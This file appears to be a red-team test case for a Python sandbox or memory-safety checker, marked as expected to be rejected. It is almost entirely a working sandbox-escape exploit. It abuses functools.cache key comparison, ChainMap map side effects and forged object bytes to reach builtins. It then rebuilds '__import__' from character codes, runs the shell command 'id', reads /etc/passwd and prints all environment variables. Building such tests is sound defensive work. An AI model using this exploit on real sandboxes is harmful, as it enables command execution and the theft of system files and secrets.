# expect: reject memory
# line: 50
# why: round 101 (red team): a functools.cache def's arguments are its cache's key, hashed and compared with a stored key of the same hash
import collections
import functools
import collections.abc

vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


def wipe(x):
    vl.clear()
    return x


def fill(x):
    KEEP.append(bytearray(FAKE))
    return x


CA = collections.ChainMap(map(wipe, [1]))
CB = collections.ChainMap(map(fill, [1]))


class KV(collections.abc.KeysView):
    def __hash__(self):
        return 1


K1 = KV(CA)
K2 = KV(CA)
K3 = KV(CB)
K4 = KV(CB)


@functools.cache
def ha(x):
    return 0


@functools.cache
def hb(x):
    return 0


ha(K1)
hb(K3)


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = ha(K2)
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        n = hb(K4)
        return o


vl.append(V())
w = W()
got = vl < [w]
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
